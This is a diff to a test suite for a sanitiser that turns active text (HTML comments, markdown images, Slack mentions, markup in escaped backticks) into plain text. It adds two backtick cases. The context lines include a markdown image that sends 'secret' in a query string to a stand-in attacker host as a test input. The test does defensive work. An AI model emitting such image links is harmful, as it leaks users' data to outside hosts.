@@ -80,6 +80,8 @@ describe('text that wants to act', () => {
     ['a comment', 'a <!-- b -->', 'a &lt;!-- b -->'],
     ['a picture with data', 'See ![it](https://evil.example.com/?q=secret).', 'See it.'],
     ['a picture by reference', '![it][1]\n\n[1]: https://evil.example.com/', 'it\n\n[1]: https://evil.example.com/'],
+    ['markup between backticks that are no code', 'a \\`<img src=x>\\` b', 'a \\`&lt;img src=x>\\` b'],
+    ['code behind such a backtick', '\\` `<b>` <b>', '\\` `<b>` &lt;b>'],
     ['Slack words', '<!channel> hi', '&lt;!channel> hi'],
     ['less and more', '1 < 2 and 3 > 2', '1 < 2 and 3 > 2'],
   ])('%s becomes plain', (_, text, plain) => {
